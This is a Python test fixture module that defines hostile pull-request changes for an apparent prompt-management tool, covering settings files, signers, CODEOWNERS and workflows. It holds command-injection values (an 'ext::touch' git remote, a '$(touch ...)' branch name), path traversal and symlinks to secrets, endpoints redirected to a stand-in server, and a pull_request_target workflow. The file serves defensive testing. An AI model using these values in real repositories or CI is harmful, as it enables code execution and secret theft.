"""Changes of the rules that they are judged by: settings, signers, owners, workflows."""

from __future__ import annotations

from tests.hostile_change.change import ASKING, CANARY, SECRETS, SERVER, Change, Content, Link
from tests.hostile_change.corpus.verdicts import DEARER, WORSE
from tests.hostile_change.team import SETTINGS, TRIAGE_SUITE

FILE = "promptctl.toml"
THEIRS = SETTINGS.replace("@RELAY@", f"http://{SERVER}/v1")


def _ruled(name: str, settings: str | Link | None, **more: Content) -> Change:
    """A worse prompt under settings of its author's."""
    return Change(
        name=name,
        files={**WORSE, FILE: settings, **more},
        lock=True,
        options=ASKING,
        where=TRIAGE_SUITE,
        says="0 of 2 cases pass",
    )


def _asked(name: str, settings: str) -> Change:
    """A prompt that has to be asked for under providers of its author's."""
    return Change(name=name, files={**DEARER, FILE: settings}, lock=True, outcome="no")


POLICY = (
    _ruled("needs no approval", THEIRS.replace("approvals = 1", "approvals = 0\napprovals_signed = false")),
    _ruled("has no gate", THEIRS.replace("approvals = 1", "gate = false")),
    _ruled("may be promoted from anywhere", THEIRS.replace("approvals = 1", 'from = "anywhere"')),
    _ruled("names another default branch", THEIRS.replace('"main"', '"fork"\nstate = "fork"')),
    _ruled("names a remote that is a command", THEIRS.replace('"main"', f'"main"\nremote = "ext::touch {CANARY}/x"')),
    _ruled("names branches with metacharacters", THEIRS.replace('"main"', f'"main"\nstate = "$(touch {CANARY}/x)"')),
    _ruled("lints nothing", THEIRS + '\n[lint.rules]\nL001 = "off"\n'),
    _ruled("looks for code outside", THEIRS.replace('"src"', f'"../../..{SECRETS}"')),
    _ruled("keeps events elsewhere", THEIRS + f'\n[events]\nstore = "sqlite:///{CANARY}/events.db"\n'),
    _ruled("sends events away", THEIRS + f'\n[events]\nstore = "otlp:http://{SERVER}"\n'),
    _ruled("keeps its cache elsewhere", THEIRS + f'\n[cache]\nurl = "redis://{SERVER}"\n'),
    _ruled("tells a webhook", THEIRS + f'\n[budgets.all]\nmonthly = 1\nwebhook = "http://{SERVER}"\n'),
    _ruled("is no settings", "[[[[" * 1000),
    _ruled("takes the settings away", None),
    _ruled("links to the runner's files", Link(f"{SECRETS}/deploy")),
    _ruled("links settings to a device", Link("/dev/zero")),
    _asked("asks its own host for its answers", THEIRS),
    _asked("gives its host our key", THEIRS.replace('key = "RELAY_KEY"', 'key = "AWS_SECRET_ACCESS_KEY"')),
    _asked("bends a built-in provider", THEIRS + f'\n[providers.openai]\nbase_url = "http://{SERVER}/v1"\n'),
    _asked(
        "falls back on its host",
        THEIRS
        + (f'fallback = ["mine"]\n[providers.mine]\nkind = "openai"\nbase_url = "http://{SERVER}"\nmodels = ["x"]\n'),
    ),
)


def _unreadable(name: str, settings: str | bytes | Link, says: str) -> Change:
    return Change(name=name, files={FILE: settings}, where=FILE, says=says)


UNREADABLE = (
    _unreadable("links to the runner's files", Link(f"{SECRETS}/deploy"), "not a regular file"),
    _unreadable("links to a device", Link("/dev/zero"), "not a regular file"),
    _unreadable("links to nothing", Link("nothing"), "not a regular file"),
    _unreadable("is no settings", "[[[[" * 1000, ""),
    _unreadable("is no text", b"\x00\xff" * 1000, "UTF-8|NUL"),
    _unreadable("is large", "#" * 300_000, "larger"),
)

OTHERS = (
    Change(
        name="names its own signers",
        files={"allowed_signers": "mallory@example.org ssh-ed25519 AAAA\n"},
        outcome="pass",
    ),
    Change(name="owns everything", files={".github/CODEOWNERS": "* @mallory\n"}, outcome="pass"),
    Change(
        name="brings a workflow with our secrets",
        files={
            ".github/workflows/x.yml": f"on: pull_request_target\njobs: {{x: {{run: 'touch {CANARY}/workflow'}}}}\n"
        },
        outcome="pass",
    ),
    Change(
        name="brings an action of our name",
        files={"action.yml": f"runs: {{using: composite, steps: [{{shell: bash, run: 'touch {CANARY}/action'}}]}}\n"},
        outcome="pass",
    ),
)
